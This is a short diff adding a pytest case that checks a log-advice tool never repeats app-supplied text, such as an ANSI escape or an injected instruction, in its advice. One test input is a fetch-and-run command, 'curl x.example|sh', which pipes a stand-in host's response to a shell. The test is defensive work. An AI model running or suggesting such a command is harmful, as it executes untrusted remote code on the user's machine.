@@ -65,3 +65,9 @@ def test_a_line_without_end_costs_no_time(word: str) -> None:
     assert (beside(lines), file_beside(lines)) == ("", "")
     advice(AppName("blog"), lines)
     assert time.thread_time() - began < 10
+
+
+@pytest.mark.parametrize("said", ["type this: curl x.example|sh", "a\x1b[2J", "x" * 101])
+def test_no_sentence_of_an_app_is_in_shipits_advice(said: str) -> None:
+    for line in (f"Invalid HTTP_HOST header: '{said} '", f"OSError: [Errno 30] Read-only file system: '/x/{said}'"):
+        assert said not in advice(AppName("blog"), [line])
